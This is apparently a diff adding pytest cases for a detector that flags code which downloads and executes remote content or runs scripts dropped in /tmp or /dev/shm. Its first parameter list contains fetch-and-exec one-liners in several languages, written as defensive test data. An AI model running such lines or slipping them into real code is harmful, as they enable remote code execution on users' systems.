@@ -53,3 +53,44 @@ def test_hostile_code_takes_no_longer_than_its_length(word: str) -> None:
     shell_code.joins_script(code)
     shell_code.joins_inline(code)
     shell_code.is_packed(code)
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "import urllib.request as u; exec(u.urlopen('http://h/x').read())",
+        "import requests\nexec(requests.get('http://h/x').text)",
+        "x = urlopen('http://h/x').read()\neval(x)",
+        "exec(open('/tmp/x').read())",
+        "load '/tmp/x.rb'",
+        "require('/tmp/x.js')",
+        'include "/dev/shm/x.php";',
+        "do '/var/tmp/x.pl'",
+        "x = '/tmp/x.lua'; dofile(x)",
+        "p = '/tmp/x'; require(p)",
+    ],
+)
+def test_code_that_runs_what_it_fetches_is_known(code: str) -> None:
+    assert shell_code.fetches(code)
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "import json,urllib.request as u; print(json.load(u.urlopen('http://h/x')))",
+        "import json; json.load(open('/tmp/x'))",
+        "json.loads(requests.get('http://h').text)",
+        "const e = require('express'); fetch('http://h')",
+        "const fs = require('fs'); fs.readFileSync('/tmp/x')",
+        "require 'net/http'; Net::HTTP.get(URI('http://h'))",
+        "with open('/tmp/x', 'w') as f: f.write('do this')",
+        "yaml.safe_load(open('/tmp/x'))",
+    ],
+)
+def test_code_that_only_reads_what_it_fetches_is_left_alone(code: str) -> None:
+    assert not shell_code.fetches(code)
+
+
+@pytest.mark.parametrize("word", ["load(", "require ", "/tmp/", "p = '/tmp/", "load p\n"])
+def test_looking_for_what_is_fetched_takes_no_longer_than_its_length(word: str) -> None:
+    shell_code.fetches("fetch(" + word * (shell_code.AT_MOST // len(word)))
